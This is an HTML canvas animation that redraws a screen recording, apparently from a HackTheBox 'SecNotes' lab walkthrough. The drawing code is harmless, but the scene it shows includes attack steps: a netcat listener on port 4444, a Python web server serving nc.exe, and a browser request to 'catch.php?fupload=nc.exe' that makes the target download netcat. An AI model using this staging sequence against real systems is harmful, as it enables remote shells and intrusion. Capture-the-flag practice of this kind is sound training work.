
Animation, 818 px wide and 536 px high, one loop 8 s. Source, as an HTML page with a canvas:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Browser and terminal</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #101010; }
canvas { display: block; width: 818px; height: 536px; }
</style>
</head>
<body>
<canvas id="stage" width="818" height="536"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const W = 818, H = 536, LOOP = 8000;
const BLUE = '#1583c9', INK = '#2b2f31', BLACK = '#0c0c0d', GREY = '#7c7c7c';
const UI = 'Lato, "Open Sans", sans-serif';
const MONO = '"DejaVu Sans Mono", monospace';

// Timeline, in ms
const BASE = '10.10.10.97:8808/';
const TYPED = 'catch.php?fupload=nc.exe';
const KEYS = [1000, 1350, 1520, 1740, 1920, 2150, 2350, 2560, 2720, 3150, 3500, 3650,
  3800, 3950, 4080, 4210, 4360, 4800, 5050, 5200, 5400, 5550, 5700, 5850];
const FAVICONS = 1080, NARROW = 1740, BEAM = 5300, ENTER = 6500, REQUEST = 6730,
  LOADED = 7150, FOCUS = 7450, DRAG = [7530, 7920];
const MOUSE = [[0, 384, 388], [150, 384, 388], [650, 363, 398], [6150, 363, 398],
  [6780, 504, 405], [7150, 504, 405], [7450, 494, 404], [7530, 494, 404], [7920, 389.5, 403]];

const font = (size, bold, family = UI) => `${bold ? 'bold ' : ''}${size}px ${family}`;

function text(str, x, y, color = INK, size = 14.8, bold = false, family = UI) {
  ctx.font = font(size, bold, family);
  ctx.fillStyle = color;
  ctx.fillText(str, x, y);
  return x + ctx.measureText(str).width;
}
function width(str, size = 14.8) {
  ctx.font = font(size);
  return ctx.measureText(str).width;
}
function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}
function box(x, y, w, h, r, fill, stroke) {
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, r);
  if (fill) { ctx.fillStyle = fill; ctx.fill(); }
  if (stroke) { ctx.strokeStyle = stroke; ctx.lineWidth = 1; ctx.stroke(); }
}
function disc(x, y, r, fill) {
  ctx.beginPath();
  ctx.arc(x, y, r, 0, Math.PI * 2);
  ctx.fillStyle = fill;
  ctx.fill();
}
function line(d, x, y, color = INK, weight = 2) {
  ctx.save();
  ctx.translate(x, y);
  ctx.strokeStyle = color;
  ctx.lineWidth = weight;
  ctx.stroke(new Path2D(d));
  ctx.restore();
}
function shape(d, x, y, fill) {
  ctx.save();
  ctx.translate(x, y);
  ctx.fillStyle = fill;
  ctx.fill(new Path2D(d));
  ctx.restore();
}
function gradient(x0, y0, x1, y1, from, to) {
  const g = ctx.createLinearGradient(x0, y0, x1, y1);
  g.addColorStop(0, from);
  g.addColorStop(1, to);
  return g;
}

const CROSS = 'M-4-4L4 4M4-4L-4 4';
const CHEVRON = 'M-4.5-2L0 2.5L4.5-2';
const RIGHT = 'M-8 0H7M1-6L7 0L1 6';
const LEFT = 'M8 0H-7M-1-6L-7 0L-1 6';

function mono(str, x, row, color = '#f2f2f2', bold = false) {
  return text(str, x, row * 18 + 14, color, 14.95, bold, MONO);
}
function prompt(command, row) {
  let x = mono('demo@host', 0, row, '#ee2b2b', true);
  x = mono(':', x, row);
  x = mono('~/workspace/hackthebox/SecNotes', x, row, '#6496cf', true);
  mono('# ' + command, x, row);
}
function terminal(t) {
  rect(0, 0, W, H, '#101010');
  prompt('nc -lp 4444', 0);
  rect(0, 207, 414, 1, '#f2f2f2');
  rect(414, 207, 404, 1, '#6a6a6a');
  prompt('cd ~/Tools/; python -m SimpleHTTPServer 80; cd -', 12);
  mono('Serving HTTP on 0.0.0.0 port 80 ...', 0, 13);
  const done = t >= REQUEST;
  if (done) mono('10.10.10.97 - - [21/Dec/2019 17:56:34] "GET /nc.exe HTTP/1.0" 200 -', 0, 14);
  box(0.5, done ? 269.5 : 251.5, 9, 19, 0, null, '#f2f2f2');
}

function titleBar() {
  box(0, 319, W, 40, [8, 8, 0, 0], gradient(0, 319, 0, 352, '#e3e3e3', '#d3d3d3'));
  ctx.textAlign = 'center';
  text('Velmora Skimfin', 408, 340, INK, 14.8, true);
  ctx.textAlign = 'left';
  for (const x of [737, 769, 801]) disc(x, 335, 8, '#3c4245');
  rect(733, 334, 8, 2, '#e4e4e4');
  line('M-3-3H3V3H-3Z', 769, 335, '#e4e4e4', 1.5);
  line('M-3-3L3 3M3-3L-3 3', 801, 335, '#e4e4e4', 1.7);
}
function tabBar() {
  rect(0, 352, W, 32, '#d2d2d2');
  rect(0, 352, 223, 32, '#dadada');
  rect(0, 352, 223, 2, BLUE);
  rect(223, 352, 1, 32, '#8e8e8e');
  rect(224, 383, W - 224, 1, '#8e8e8e');
  ctx.save();
  ctx.beginPath();
  ctx.rect(0, 354, 194, 29);
  ctx.clip();
  text(BASE + 'catch.php', 8, 373, gradient(160, 0, 196, 0, '#2b2f31', 'rgba(43,47,49,.1)'));
  ctx.restore();
  line(CROSS, 206, 368, INK, 1.8);
  line('M-7 0H7M0-7V7', 240, 367, INK, 1.8);
}
function toolbar(t) {
  rect(0, 384, W, 66, '#dadada');
  ctx.beginPath();
  ctx.arc(19, 404, 16, 0, Math.PI * 2);
  ctx.fillStyle = '#e3e3e3';
  ctx.fill();
  ctx.strokeStyle = '#a9a9a9';
  ctx.lineWidth = 1;
  ctx.stroke();
  line(LEFT, 19, 404, '#9a9a9a');
  line(RIGHT, 52, 404, '#9a9a9a');

  const loading = t >= ENTER && t < LOADED;
  const reload = loading ? '#bcbcbc' : INK;
  line('M5.2 2.6A6 6 0 1 1 4.4-4', 84, 404, reload);
  shape('M7-7.5V-1H.5Z', 84, 404, reload);

  line('M-7.5 .5L0-6.5L7.5 .5M-5-1V6.8H-1.5V2.5H1.5V6.8H5V-1', 116, 404, INK, 1.9);

  line('M-7-6V6M-3-6V6M1-6V6M3.2-5.5L7.4 6', 696, 404, INK, 1.9);
  box(721, 398, 14, 12, 2, null, INK);
  line('M-7-5.5H7V5.5H-7ZM-.5-5.5V5.5M-5-2.5H-2.5M-5 .5H-2.5', 728, 404, INK, 1.6);
  disc(760, 404, 7, '#4a4e50');
  line('M-6-5H6M-6 0H6M-6 5H6', 799, 404, INK, 2);
}
function bookmarks() {
  line('M0-4.3A4.3 4.3 0 1 1-.01-4.3M0-7V-4M0 4V7M-7 0H-4M4 0H7M-5-5L-3-3M3 3L5 5M-5 5L-3 3M3-3L5-5',
    19, 436, INK, 1.8);
  text('Most Visited', 31, 441);
  rect(124, 428, 16, 16, '#2a1717');
  text('Dorveline Security', 144, 441);
  const links = [[284, 296, 'Vemo Linux', '#17191a'], [379, 391, 'Vemo Docs', '#17191a'],
    [472, 484, 'Vemo Tools', '#17191a'], [567, 580, 'Flawlog-DB', '#ee6a22'],
    [674, 685, 'Wavepick-ng', '#3c4650']];
  for (const [icon, x, label, color] of links) {
    disc(icon, 436, 7, color);
    text(label, x, 441);
  }
  line('M-6-5L-1 0L-6 5M0-5L5 0L0 5', 798, 436, INK, 1.9);
  rect(0, 449, W, 1, '#b4b4b4');
  rect(0, 450, W, H - 450, '#fff');
}

function addressBar(t, value, lastKey) {
  const browsing = t >= ENTER;
  const focused = !browsing || t >= FOCUS;
  box(167.5, 389.5, 477, 29, 4, focused ? '#f6f6f6' : '#f3f3f3', focused ? BLUE : '#a6a6a6');
  if (focused) box(168.5, 390.5, 475, 27, 3, null, 'rgba(21,131,201,.25)');
  const x = 200, y = 410;

  if (!browsing) {
    line('M3.5 1.5L8.5 7M-1-6.2A5 5 0 1 0-.99-6.2', 183, 404, GREY, 1.9);
    const end = text(value, x, y, BLACK);
    const idle = t - lastKey;
    if (idle % 1200 < 600) rect(Math.round(end), 396, 1, 18, '#000');
    if (lastKey > 0) line(RIGHT, 630, 404, '#4a4d4f');
    else line(CHEVRON, 630, 404, '#4a4d4f', 1.8);
    return;
  }

  line('M0-6.5A6.5 6.5 0 1 1-.01-6.5', 184, 404.5, '#56595b', 1.3);
  rect(183, 403, 2, 5, '#56595b');
  rect(183, 400, 2, 2, '#56595b');
  line(CHEVRON, 545, 404, '#56595b', 1.8);
  for (const dot of [568, 574, 580]) disc(dot, 404.5, 2, '#4a4d4f');
  disc(602, 404, 7.5, '#4a4d4f');
  line('M0-7L2.1-2.4L7-1.8L3.4 1.6L4.3 6.5L0 4.1L-4.3 6.5L-3.4 1.6L-7-1.8L-2.1-2.4Z', 630, 404.5, '#4a4d4f', 1.6);

  if (!focused) {
    const host = text('10.10.10.97', x, y, BLACK);
    text(value.slice(11), host, y, GREY);
    return;
  }
  const progress = Math.min(1, Math.max(0, (t - DRAG[0]) / (DRAG[1] - DRAG[0])));
  const from = value.length - Math.round(14 * progress);
  const head = value.slice(0, from), tail = value.slice(from);
  const mark = text(head, x, y, BLACK);
  if (tail) {
    rect(mark, 395, width(tail), 19, BLUE);
    text(tail, mark, y, '#fff');
  } else {
    rect(Math.round(mark), 396, 1, 18, '#000');
  }
}

function globe(y, color) {
  line('M0-7A7 7 0 1 1-.01-7M0-7C-4.5-3-4.5 3 0 7C4.5 3 4.5-3 0-7M-6.5-2.5H6.5M-6.5 2.5H6.5', 186, y, color, 1.4);
}
function suggestions(t, value) {
  rect(0, 424, W, H - 424, '#f6f6f6');
  rect(0, 424, W, 1, '#bdbdbd');
  box(4, 430, 809, 30, 2, BLUE);
  const icons = t >= FAVICONS;

  let x = text('http://', 203, 451, '#d6e9f6');
  x = text(value, x, 451, '#fff', 14.8, true);
  text('—', x + 8, 451, '#d6e9f6', 13.2);
  text('Visit', x + 27, 451, '#fff', 13.2);
  if (icons) globe(446, '#fff');

  const open = BASE + 'catch.php?fupload=n';
  x = text('http://', 203, 481, BLACK);
  x = text(open.slice(0, value.length), x, 481, BLACK, 14.8, true);
  text(open.slice(value.length) + '...', x, 481, BLACK);
  text('—', 540, 481, '#9a9a9a', 13.2);
  text('Switch to Tab', 560, 481, BLUE, 13.2);
  box(158, 470, 12, 8, [2, 2, 0, 0], '#4b4b4b');
  rect(156, 478, 16, 2, '#4b4b4b');
  if (icons) globe(475, '#4b4b4b');

  if (t < NARROW) {
    history(511, value, 'catch.php');
    history(541, '', 'hmm.php');
    if (icons) globe(506, '#4b4b4b');
  } else {
    searchRow(value);
  }
}
function history(y, match, page) {
  text('10.10.10.97', 203, y, BLACK);
  text('—', 290, y, '#9a9a9a', 13.2);
  const x = text(match, 309, y, BLUE, 13.2, true);
  text((BASE + page).slice(match.length), x, y, BLUE, 13.2);
}
function searchRow(value) {
  rect(0, 495, W, H - 495, '#ebebeb');
  rect(0, 495, W, 1, '#c9c9c9');
  let x = text('Search for ', 6, 516, GREY);
  x = text(value, x, 516, BLACK);
  text(' with:', x, 516, GREY);
  rect(0, 526, W, 1, '#c4c4c4');
  const engines = ['#fff', '#0a7a78', '#333', '#d33a2c', '#e02a20', '#fff', null, '#fff'];
  engines.forEach((color, i) => {
    if (color) disc(26 + 51 * i, 542, 8.5, color);
    if (i < 7) rect(51 + 51 * i, 532, 1, 4, '#bdbdbd');
  });
  rect(791, 534, 2, 2, '#4b4b4b');
}

function mousePosition(t) {
  const i = Math.max(1, MOUSE.findIndex(step => step[0] > t));
  const last = MOUSE[MOUSE.length - 1];
  if (t >= last[0]) return last.slice(1);
  const [t0, x0, y0] = MOUSE[i - 1], [t1, x1, y1] = MOUSE[i];
  const p = (t - t0) / (t1 - t0), e = p * p * (3 - 2 * p);
  return [x0 + (x1 - x0) * e, y0 + (y1 - y0) * e];
}
function pointer(t) {
  const [x, y] = mousePosition(t);
  if (t < BEAM) {
    const arrow = 'M0 0V15L3.4 11.8L6 17.4L8.4 16.3L6 10.9H10.6Z';
    line(arrow, x, y, '#fff', 2);
    shape(arrow, x, y, '#000');
  } else {
    const beam = 'M-3.5-8H-1L0-7L1-8H3.5M0-7V7M-3.5 8H-1L0 7L1 8H3.5';
    line(beam, x, y, 'rgba(255,255,255,.8)', 3);
    line(beam, x, y, '#000', 1.3);
  }
}

function draw(t) {
  const count = KEYS.filter(key => key <= t).length;
  const lastKey = count ? KEYS[count - 1] : -700;
  const value = BASE + TYPED.slice(0, count);
  terminal(t);
  titleBar();
  tabBar();
  toolbar(t);
  bookmarks();
  addressBar(t, value, lastKey);
  if (count && t < ENTER) suggestions(t, value);
  pointer(t);
}

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
